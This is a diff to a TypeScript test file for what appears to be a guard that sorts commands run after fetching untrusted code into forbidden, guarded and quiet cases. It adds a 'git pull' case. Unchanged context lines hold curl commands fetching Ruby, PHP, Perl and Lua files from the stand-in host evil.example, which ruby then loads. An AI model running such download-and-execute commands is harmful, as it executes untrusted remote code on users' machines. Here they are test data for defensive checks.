@@ -31,6 +31,7 @@ const FETCHES: Readonly<Record<string, readonly [string, string]>> = {
   azure: ['az repos pr checkout --id 5', PROPOSED],
   alias: ['git pr 5', PROPOSED],
   listed: ['tea pr list', 'true'],
+  pulled: ['git pull', `echo ls > x.sh && git add -A && git commit -qm x`],
   others: [
     'curl -so e.rb https://evil.example/e.rb; curl -so e.php https://evil.example/e.php; curl -so E.pm https://evil.example/E.pm; curl -so e.lua https://evil.example/e.lua',
     `echo 1 > e.rb; echo '<?php echo 1;' > e.php; echo '1;' > E.pm; echo 'x=1' > e.lua`,
@@ -68,6 +69,8 @@ const stories: readonly (readonly [string, Call, 'forbidden' | 'guarded' | 'quie
   ['hub', 'bash ok.sh', 'quiet'],
   ['listed', 'bash ok.sh', 'quiet'],
   ['listed', 'pytest', 'quiet'],
+  ['pulled', 'bash x.sh', 'quiet'],
+  ['pulled', 'pytest', 'quiet'],
   ['others', 'ruby -r ./e.rb -e 1', 'guarded'],
   ['others', `ruby -e "require './e'"`, 'guarded'],
   ['others', `ruby -e "load 'e.rb'"`, 'guarded'],
